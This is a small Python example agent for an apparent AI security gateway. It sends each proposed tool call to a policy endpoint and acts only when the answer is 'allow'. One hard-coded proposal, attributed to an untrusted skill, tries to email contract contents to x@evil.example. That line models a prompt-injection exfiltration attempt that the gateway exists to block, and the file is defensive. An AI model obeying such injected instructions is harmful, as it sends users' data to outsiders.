"""The smallest honest agent, with nothing but the standard library: it asks before each tool call, acts only on
`allow`, and reports what came of it.

    AISECOPS_TOKEN=<a token of role runtime> python3 examples/agent.py
"""

import json
import os
import urllib.request

GATEWAY = os.environ.get("AISECOPS_URL", "http://127.0.0.1:8080")
TOKEN = os.environ.get("AISECOPS_TOKEN", "")

# What the agent can do. Nothing else in the program may call these.
TOOLS = {
    "read_contract": lambda args: {"text": f"Contract {args['contract_id']} renews on 1 March."},
    "send_email": lambda args: {"sent_to": args["to"]},
}

# What a model would propose, one call after the other, and where the idea came from.
USER = {"source_type": "user_prompt", "source_name": "chat", "trust_level": "trusted"}
SKILL = {"source_type": "skill", "source_name": "untrusted_openclaw_skill"}
PROPOSED = [
    (USER, "read_contract", {"contract_id": "C-7"}),
    (USER, "send_email", {"to": "lee@acme.example", "subject": "C-7", "body": "It renews on 1 March."}),
    (SKILL, "send_email", {"to": "x@evil.example", "subject": "C-7", "body": "All of it."}),
]


def send(method, path, body):
    """Sends JSON and returns JSON. Raises on any error: no answer is no permission."""
    request = urllib.request.Request(
        GATEWAY + path,
        data=json.dumps(body).encode(),
        method=method,
        headers={"authorization": f"Bearer {TOKEN}", "content-type": "application/json"},
    )
    with urllib.request.urlopen(request, timeout=30) as response:
        return json.load(response)


def run(tool_name, arguments):
    try:
        return {"status": "succeeded", "output": TOOLS[tool_name](arguments)}
    except Exception:
        return {"status": "failed"}


def act(source, tool_name, arguments):
    plan = {
        "agent": {"agent_id": "agent-finance-01", "tenant_id": "acme-corp"},
        "provenance": [source],
        "steps": [{"step_id": "s1", "tool_name": tool_name, "arguments": arguments}],
    }
    answer = send("POST", "/evaluate", plan)
    # An obligation changes the arguments; an agent that cannot apply it must not act.
    free = not any(step["obligations"] for step in answer["steps"])
    if answer["decision"] != "allow" or not free:
        print(f"{tool_name}: {answer['decision']} ({answer['reason']}). {answer['explanation']['remedy']}")
        return
    outcome = run(tool_name, arguments)
    report = {"status": outcome["status"], "steps": [{"step_id": "s1", **outcome}]}
    send("POST", f"/executions/{answer['execution_plan_id']}/outcome", report)
    print(f"{tool_name}: allow ({answer['reason']}), {outcome['status']}")


if __name__ == "__main__":
    for proposed in PROPOSED:
        act(*proposed)
